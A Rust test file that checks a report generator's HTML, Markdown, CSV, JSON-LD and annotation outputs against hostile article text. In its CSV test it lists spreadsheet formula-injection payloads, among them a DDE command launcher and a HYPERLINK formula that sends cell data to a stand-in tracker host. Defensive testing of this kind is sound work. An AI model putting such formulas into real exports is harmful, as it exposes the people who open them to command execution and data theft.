//! Article text is hostile input: nothing of it may become markup, an address that runs, or a command to a terminal.

#![allow(clippy::unwrap_used, reason = "it is all test code, though outside test functions")]

mod common;
#[path = "common/payloads.rs"]
mod payloads;

use common::file;
use onrecord_model::{Act, Attribution, Document, Kind, Origin};
use onrecord_report::tables::{Column, TABLES};
use onrecord_report::{brat, text};
use payloads::{PAYLOADS, story};
use serde_json::Value;

fn written(name: &str, hostile: &str) -> String {
    let (corpus, articles) = story(hostile);
    String::from_utf8(file(name, &corpus, &articles)).unwrap()
}

#[test]
fn the_page_has_no_tag_and_no_attribute_but_its_own() {
    const ATTRIBUTES: &str = "aria-hidden aria-label aria-labelledby charset class content cx cy d datetime height href \
        http-equiv id lang name preserveaspectratio r rel role rx scope stroke-width tabindex text-anchor type viewbox width \
        x x1 x2 y y1 y2";
    const TAGS: &str = "a article b bdi body circle code details div figcaption figure footer g h1 h2 h3 head header html i \
        li line main meta nav noscript ol p path rect script section span style summary svg table tbody td text th thead \
        title tr ul";
    let known = |list: &str, name: &str| list.split_whitespace().any(|known| known == name);
    for hostile in PAYLOADS {
        let page = written("report.html", hostile);
        for (tag, attributes) in tags(&page) {
            assert!(known(TAGS, &tag), "<{tag}> in the page for {hostile:?}");
            for (attribute, value) in attributes {
                assert!(known(ATTRIBUTES, &attribute), "<{tag} {attribute}> in the page for {hostile:?}");
                if attribute == "href" {
                    assert!(value.starts_with('#') || value.starts_with("http"), "{value} for {hostile:?}");
                }
            }
        }
        let count = |tag: &str| tags(&page).iter().filter(|(name, _)| name == tag).count();
        // The article, the tables, and what reads them.
        assert_eq!((count("script"), count("style"), count("html")), (3, 1, 1), "{hostile:?}");
    }
}

#[test]
fn the_page_shows_hostile_text_as_text() {
    let page = written("report.html", "<b>&amp;\"'");
    assert!(page.contains("&#60;b&#62;&#38;amp;&#34;&#39;"), "{page}");
}

#[test]
fn a_hidden_character_does_not_reach_page_brief_or_terminal() {
    let hostile = payloads::HIDDEN;
    let (_, articles) = story(hostile);
    let files = ["report.html", "report.md", "summary.txt"].map(|name| written(name, hostile));
    for shown in files.into_iter().chain([text::article(&articles[0])]) {
        let bad = shown.chars().find(|&c| (c.is_control() && c != '\n') || c == '\u{202e}');
        assert_eq!(bad, None);
    }
}

#[test]
fn markdown_has_no_markup_but_its_own() {
    for hostile in PAYLOADS {
        let brief = written("report.md", hostile);
        let mut before = ' ';
        for (at, c) in brief.char_indices() {
            let starts_line = brief[..at].ends_with('\n') || at == 0;
            let ours = match c {
                '<' | '[' | ']' | '`' | '_' | '|' | '>' => before == '\\',
                '#' => before == '\\' || before == '#' || starts_line,
                _ => true,
            };
            assert!(ours, "{c:?} at {at} for {hostile:?}: {brief}");
            before = c;
        }
        assert!(!brief.contains("://") && !brief.contains("www."), "a bare address for {hostile:?}");
    }
}

#[test]
fn json_lines_give_back_what_went_in() {
    for hostile in PAYLOADS {
        let lines = written("articles.jsonl", hostile);
        assert_eq!(lines.trim_end().lines().count(), 1);
        let line: serde_json::Value = serde_json::from_str(&lines).unwrap();
        assert_eq!(line["name"], *hostile);
        assert_eq!(line["statements"][0]["content"][0]["text"], *hostile);
    }
}

#[test]
fn no_cell_of_a_spreadsheet_is_computed() {
    const FORMULAS: &[&str] = &[
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "＝1",
        "=1\",\"=2",
        "a\",=1",
        "one\r\n=1,\n\"=2\"",
        "=HYPERLINK(\"http://tracker.example/?\"&A1,\"x\")",
    ];
    for hostile in PAYLOADS.iter().chain(FORMULAS) {
        let (corpus, articles) = story(hostile);
        for table in TABLES {
            let written = file(&format!("{}.csv", table.name), &corpus, &articles);
            let mut reader = csv::Reader::from_reader(written.strip_prefix("\u{feff}".as_bytes()).unwrap());
            let columns: Vec<&Column> = table.columns.iter().filter(|column| column.in_csv).collect();
            assert!(reader.headers().unwrap().iter().eq(columns.iter().map(|column| column.name)));
            for row in reader.records() {
                let row = row.unwrap();
                assert_eq!(row.len(), columns.len());
                for (cell, column) in row.iter().zip(&columns) {
                    let starts = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
                    assert!(!starts, "{cell:?} in {} of {} for {hostile:?}", column.name, table.name);
                    if (table.name, column.name) == ("statements", "content") {
                        assert_eq!(cell.strip_prefix('\'').filter(|text| text == hostile).unwrap_or(cell), *hostile);
                    }
                }
            }
        }
    }
}

#[test]
fn linked_data_has_no_tag_and_no_address_but_of_the_web() {
    fn check(value: &Value, hostile: &str) {
        match value {
            Value::Object(fields) => {
                for (name, value) in fields.iter().filter(|(name, _)| *name != "@context") {
                    if matches!(name.as_str(), "id" | "source" | "url" | "sameAs") {
                        let addresses = value.as_array().map_or(std::slice::from_ref(value), Vec::as_slice);
                        for address in addresses.iter().filter_map(Value::as_str) {
                            let is_web = address.starts_with("http://") || address.starts_with("https://");
                            assert!(is_web || address.starts_with('#'), "{address} for {hostile:?}");
                            assert!(!address.contains(|c: char| c.is_whitespace() || "<>\"{}|\\^`".contains(c)));
                        }
                    }
                    check(value, hostile);
                }
            }
            Value::Array(parts) => parts.iter().for_each(|part| check(part, hostile)),
            _ => {}
        }
    }
    for hostile in PAYLOADS {
        let written = written("annotations.jsonld", hostile);
        assert!(!written.contains(['<', '>', '&']), "{written}");
        let document: Value = serde_json::from_str(&written).unwrap();
        check(&document, hostile);
        let nodes = document["@graph"].as_array().unwrap();
        let annotation = nodes.iter().find(|node| node["type"] == "Annotation").unwrap();
        assert_eq!(annotation["body"]["text"], *hostile);
        assert_eq!(annotation["target"][0]["selector"][0]["exact"], *hostile);
        assert_eq!(annotation["body"]["spokenByCharacter"][0]["name"], *hostile);
    }
}

#[test]
fn what_was_not_said_is_no_quotation() {
    let quotations = |change: fn(&mut Attribution)| {
        let (corpus, mut articles) = story("No");
        change(&mut articles[0].attributions[0]);
        let written = String::from_utf8(file("annotations.jsonld", &corpus, &articles)).unwrap();
        written.matches("\"Quotation\",").count()
    };
    assert_eq!(quotations(|_| {}), 1);
    assert_eq!(quotations(|attribution| attribution.negated = true), 0);
    assert_eq!(quotations(|attribution| attribution.act = Act::Belief), 0);
}

#[test]
fn annotations_stay_on_their_lines() {
    for hostile in PAYLOADS.iter().copied().chain(["one\ttwo\nthree\r\nfour\u{2028}five"]) {
        let document = Document::plain(hostile, Origin::file("x.txt"));
        let content = vec![document.blocks[0].span];
        let attribution = Attribution { content, ..Attribution::new(Kind::Direct, "any") };
        let file = brat::annotations(&document, &[attribution], false);
        assert_eq!(file.lines().count(), 3, "{file}");
        assert!(file.lines().take(2).all(|line| line.split('\t').count() == 3), "{file}");
    }
}

/// The tags of a page as a browser would see them, with their attributes.
fn tags(page: &str) -> Vec<(String, Vec<(String, String)>)> {
    let (mut tags, mut rest) = (Vec::new(), page);
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        assert!(!rest.starts_with("!--") && !rest.starts_with("![") && !rest.starts_with('?'), "{rest:.40}");
        if !rest.starts_with(|c: char| c.is_ascii_alphabetic()) {
            continue;
        }
        let end = rest.find(|c: char| c.is_whitespace() || c == '>' || c == '/').unwrap();
        let name = rest[..end].to_ascii_lowercase();
        rest = &rest[end..];
        let mut attributes = Vec::new();
        loop {
            rest = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '/');
            if let Some(after) = rest.strip_prefix('>') {
                rest = after;
                break;
            }
            let end = rest.find(|c: char| c.is_whitespace() || matches!(c, '=' | '>' | '/')).unwrap();
            let attribute = rest[..end].to_ascii_lowercase();
            rest = &rest[end..];
            let mut value = "";
            if let Some(after) = rest.strip_prefix('=') {
                let inner = after.strip_prefix('"').expect("templates quote every attribute");
                let end = inner.find('"').unwrap();
                (value, rest) = (&inner[..end], &inner[end + 1..]);
            }
            attributes.push((attribute, value.to_owned()));
        }
        if name == "script" || name == "style" {
            rest = &rest[rest.find(&format!("</{name}")).unwrap()..];
        }
        tags.push((name, attributes));
    }
    tags
}
